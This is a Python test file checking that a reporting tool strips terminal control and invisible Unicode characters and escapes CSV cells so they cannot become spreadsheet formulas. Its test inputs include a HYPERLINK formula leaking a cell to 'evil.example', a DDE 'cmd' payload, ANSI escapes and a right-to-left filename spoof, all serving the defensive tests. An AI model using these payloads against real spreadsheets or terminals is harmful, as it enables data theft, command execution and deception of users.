"""What others have written reaches no terminal and no spreadsheet as anything but text."""

import csv
import json
import unicodedata
from datetime import date
from io import StringIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from models.registers.units import Unit
from models.reporting.report import make_report
from models.wording import cell, visible
from streams.reports.counters import of_events
from streams.reports.files import csv_bytes
from tests.builders import received, thai_binh
from tests.commands import typed as lotrinh

STEERING = ("\x9b31m", "\x1b]0;x\x07", "\u202egnp.exe", "\u2066", "\u200b", "\u2028", "\x85", "\U000e0001")
FORMULAS = ('=HYPERLINK("http://evil.example/"&A1)', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", "\t=1", "\r=1")


@given(st.text())
def test_nothing_that_steers_is_left_and_json_stays_what_it_was(text: str) -> None:
    shown = visible(text)

    assert not [c for c in shown if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")]
    assert json.loads(visible(json.dumps({"name": text}, ensure_ascii=False))) == json.loads(json.dumps({"name": text}))
    assert visible(shown) == shown


@pytest.mark.parametrize("text", STEERING)
def test_a_name_of_a_file_does_not_steer_the_terminal(tmp_path: Path, text: str) -> None:
    units = tmp_path / "units.csv"
    units.write_text(f"level,code,name,parent\ncommune,x1,{text}Xã,340\n", encoding="utf-8")
    events = tmp_path / "events.jsonl"
    told = [*received(1, "x1", "online", "2024-06-03"), {"id": text, "name": text}]
    events.write_text("\n".join(json.dumps(e) for e in told), encoding="utf-8")
    asked = ("--events", str(events), "--as-of", "2024-06-30", "--units", str(units))

    for more in ((), ("--json",)):
        done = lotrinh("evaluate", "--decision", "thai-binh-2024", *asked, *more)
        assert done.returncode in (0, 2), done.stderr  # a line separator within a line is refused
        assert not [c for c in done.stdout + done.stderr if c not in "\n\t" and not c.isprintable()]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_report_is_a_formula(text: str) -> None:
    reading = thai_binh(units=(Unit("=1", text, "commune", "340"),))
    lines = enumerate((json.dumps(e).encode() for e in received(3, "=1", "online", "2024-06-03")), 1)
    written = csv_bytes(make_report(of_events(reading, lines)[0], "2024-06", [], date(2024, 6, 30))).decode()

    rows = list(csv.DictReader(StringIO(written)))
    mine = [row for row in rows if row["unit"].endswith("=1")]
    assert mine
    assert {row["unit"] for row in mine} == {"'=1"}
    for row in rows:
        for column in ("row", "unit", "name", "indicator", "status"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_cell_keeps_what_is_no_formula() -> None:
    for text in ("340.phong-tu-phap", "Sở Tài chính", "1.2.b", ""):
        assert cell(text) == text
